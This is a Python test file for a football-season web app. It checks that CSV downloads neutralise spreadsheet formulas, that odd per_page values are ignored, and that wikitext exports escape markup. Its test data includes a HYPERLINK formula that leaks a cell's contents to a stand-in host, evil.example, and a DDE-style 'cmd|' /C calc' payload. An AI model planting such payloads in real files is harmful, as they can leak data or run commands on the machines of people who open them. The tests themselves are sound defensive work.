"""What a hostile name or query string must not do: run as a formula in the reader's
spreadsheet, break the match list, or rewrite the exported wikitext."""

import csv
import io
import re

import pytest

from tests.test_wikitext import build_1990, flush, import_file, run, season_record, write
from tournaments.bilingual import english
from tournaments.interchange.wikitext import parse_article, season_wikitext
from tournaments.interchange.wikitext.write import escape, escape_url
from tournaments.models import (
    Department,
    Group,
    Match,
    Player,
    Season,
    Stage,
    StatusZone,
    Team,
    Venue,
)
from tournaments.spreadsheet import neutralized

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
MATCHES_CSV = "/seasons/1996/matches/?format=csv"
STANDINGS_CSV = "/seasons/1996/standings.csv"
NUMBER = re.compile(r"-?[0-9]+")


def csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def cells(client, url):
    return [cell for row in csv_rows(client.get(url)) for cell in row]


# CSV injection --------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_a_spreadsheet_would_read_as_a_formula_starts_with_a_quote(start):
    assert neutralized(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("name", ["José Gálvez", "UTC", "1–0", "Sport Áncash", "a=b", ""])
def test_ordinary_text_is_written_as_it_is(name):
    assert neutralized(name) == name


@pytest.mark.parametrize("number", [-3, 0, 13, -1.5])
def test_numbers_stay_numbers_even_negative(number):
    assert neutralized(number) is number


def test_an_empty_cell_stays_empty():
    assert neutralized(None) is None


@pytest.mark.parametrize("url", [MATCHES_CSV, STANDINGS_CSV])
@pytest.mark.parametrize("start", ["=", "+", "-", "@"])  # no name holds a tab or a CR
def test_a_team_name_cannot_be_a_formula_in_either_download(client, season_1996, url, start):
    Team.objects.filter(slug="utc").update(name=f"{start}cmd|' /C calc'!A0")

    found = cells(client, url)

    assert f"'{start}cmd|' /C calc'!A0" in found
    # Only numbers (a negative goal difference) may start with a minus sign.
    assert not any(cell.startswith(start) for cell in found if not NUMBER.fullmatch(cell))


@pytest.mark.parametrize("url", [MATCHES_CSV, STANDINGS_CSV])
def test_the_hyperlink_formula_is_written_as_text(client, season_1996, url):
    Team.objects.filter(slug="utc").update(name=HYPERLINK)

    found = cells(client, url)

    assert "'" + HYPERLINK in found
    assert HYPERLINK not in found


def test_the_standings_csv_keeps_its_numbers_and_names(client, season_1996):
    rows = csv_rows(client.get(STANDINGS_CSV))

    cni = next(row for row in rows if row[3] == "CNI")
    # A negative goal difference is a number, written as one: no quote before it.
    assert cni[4:12] == ["5", "2", "0", "3", "8", "11", "-3", "6"]
    assert [row[3] for row in rows[1:3]] == ["José Gálvez", "UTC"]


def test_the_matches_csv_keeps_its_ordinary_cells(client, season_1996):
    rows = csv_rows(client.get(MATCHES_CSV))

    assert rows[0][:3] == ["Date", "Rd", "Stage"]
    assert not any(cell.startswith("'") for row in rows for cell in row)


# ?per_page= -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "per_page",
    ["²", "١٢", "٣", "5" * 5000, "1" * 4301, "1e3", " 50", "50 ", "+50", "0x10", "5\x00"],
    ids=["superscript", "arabic-indic", "arabic-indic-one", "5000-digits", "4301-digits"]
    + ["exponent", "leading-space", "trailing-space", "plus", "hex", "nul"],
)
def test_a_per_page_that_is_not_a_small_ascii_number_is_ignored(client, season_1996, per_page):
    response = client.get("/seasons/1996/matches/", {"per_page": per_page})

    assert response.status_code == 200
    assert "15 matches." in response.content.decode()


def test_the_superscript_two_from_the_issue_is_ignored(client, season_1996):
    response = client.get("/seasons/1996/matches/?per_page=%C2%B2")

    assert response.status_code == 200


def test_a_good_per_page_still_pages(client, season_1996):
    html = client.get("/seasons/1996/matches/", {"per_page": "5"}).content.decode()

    assert html.count('<td class="score">') == 5


# Wikitext export ------------------------------------------------------------------------

MARKUP_NAMES = {  # build_1990's team: a name full of markup
    "Alfa": "CNI|win_GAL=0|loss_GAL=5",
    "Beta": "A {{B}} C",
    "Gamma": "[[Link]]",
    "Delta": "x=y <b> &amp; ''i'' ~~~~",
}


def markup_1990():
    """build_1990's season with markup in every value the export writes."""
    season = build_1990()
    for old, new in MARKUP_NAMES.items():
        Team.objects.filter(name=old).update(name=new, city="Lima|Callao=1")
    Team.objects.filter(short_code="BET").update(short_code="B|=")  # no use as a code
    Venue.objects.update(name="Estadio {{Football box collapsible|team1=X|score=9–0|team2=Y}}")
    Department.objects.filter(name="Lima").update(name="Lima [[Callao]] | Norte")
    # The export writes the English texts (an English-language format).
    stage, group = "Group stage {{x}}", "Group A|B=C"  # no glossary entry: the same in Spanish
    assert Stage.objects.filter(name_en="Group stage").update(name=stage, name_en=stage) == 1
    assert Group.objects.filter(name_en="Group A").update(name=group, name_en=group) == 1
    label = "Qualified|to=the [[final]]"
    assert StatusZone.objects.update(label=label, label_en=label) == 1
    Player.objects.filter(name="Juan Pérez").update(name="Juan [[Pérez]]|x=1")
    Player.objects.filter(name="Pedro Gómez").update(name="Pedro {{Gómez}} | sub")
    Group.objects.filter(name="Beta v Alfa").update(  # the import names a tie so
        name=f"{MARKUP_NAMES['Beta']} v {MARKUP_NAMES['Alfa']}"
    )
    Match.objects.exclude(referee="").update(
        referee="Ref|eree=1 }}{{Football box collapsible", report_url=""
    )
    season.intro_en = "The 1990 season: {{Football box collapsible|team1=X}} [[Link]].\n\nA|B=C."
    season.save()
    return season


def test_every_value_is_escaped_in_the_export(db, on_commit):
    with on_commit():
        markup_1990()

    article = season_wikitext(Season.objects.get(year=1990))

    assert "CNI|win_GAL" not in article and "CNI&#124;win&#95;GAL" not in article
    assert "name_ALF=CNI&#124;win_GAL&#61;0&#124;loss_GAL&#61;5" in article
    assert "{{B}}" not in article and "[[Link]]" not in article and "<b>" not in article
    assert "~~~" not in article and "''i''" not in article
    # One box per match: the venue's, the referee's and the intro's boxes are text.
    assert article.count("{{Football box collapsible") == Match.objects.count()
    # A short code that can't name a parameter gives way to letters of the name.
    assert "|team1=B|" not in article and "B|=" not in article
    assert "|team1=ABC|name_ABC=A &#123;&#123;B&#125;&#125; C" in article
    (table,) = parse_article(article).tables
    assert [row.name for row in table.rows][:2] == [MARKUP_NAMES["Beta"], MARKUP_NAMES["Alfa"]]


def test_a_zone_code_that_cannot_name_parameters_is_renamed(db, on_commit):
    with on_commit():
        markup_1990()
        StatusZone.objects.update(code="Q=|")

    article = season_wikitext(Season.objects.get(year=1990))

    assert "|col_Z1=#BBF3BB|text_Z1=Qualified&#124;to&#61;the &#91;&#91;final&#93;&#93;" in article
    (table,) = parse_article(article).tables
    assert [(zone.code, zone.label) for zone in table.zones] == [
        ("Z1", "Qualified|to=the [[final]]")
    ]


@pytest.mark.django_db(transaction=True)
def test_names_full_of_markup_survive_export_and_import(tmp_path):
    markup_1990()
    original = season_record(1990)
    article = write(tmp_path, run("export_wikitext", "1990"))
    flush()

    output = import_file(article)

    assert "The article's tables agree with its matches." in output
    imported = season_record(1990)
    assert english(StatusZone.objects.get(), "label") == "Qualified|to=the [[final]]"
    for part in original:
        assert imported[part] == original[part], part
    assert sorted(Team.objects.values_list("name", flat=True)) == sorted(MARKUP_NAMES.values())
    assert set(Team.objects.values_list("city", flat=True)) == {"Lima|Callao=1"}


@pytest.mark.parametrize(
    "text",
    [
        "CNI|win_GAL=0",
        "A {{B}} C",
        "[[Link]]",
        "x=y",
        "<b>",
        "&amp;",
        "a ''b'' ~~~~ __TOC__",
        "-Sport; Boys*",
        "Club [1]",
    ],
)
def test_an_escaped_value_reads_back_as_itself(text):
    written = f"{{{{Football box collapsible|team1={escape(text)}|score=1–0|team2=UTC}}}}"

    box = parse_article(written).matches[0]

    assert (box.team1, box.team2, box.score1, box.score2) == (text, "UTC", 1, 0)


@pytest.mark.parametrize(
    ("written", "read"), [("CNI{{!}}win", "CNI|win"), ("a{{=}}b", "a=b"), ("a&#124;b", "a|b")]
)
def test_the_importer_reads_the_escaped_forms_of_articles(written, read):
    box = parse_article(f"{{{{Football box|team1={written}|score=1–0|team2=UTC}}}}").matches[0]

    assert box.team1 == read


def test_a_report_url_stays_one_url():
    assert escape_url("https://example.com/a?b=1&c=2") == "https://example.com/a?b=1&c=2"
    assert escape_url("https://example.com/a b]|{x}") == "https://example.com/a%20b%5D%7C%7Bx%7D"


def test_top_scorers_with_a_pipe_in_their_name_are_one_item_each():
    article = parse_article(
        "{{Infobox football league season\n| season = 1990\n"
        f"| league topscorer = {escape('A|B')} (5)<br>{escape('C;D', ';')} (4); E (3)\n}}}}"
    )

    assert [(name, goals) for name, goals, _ in article.top_scorers] == [
        ("A|B", 5),
        ("C;D", 4),
        ("E", 3),
    ]
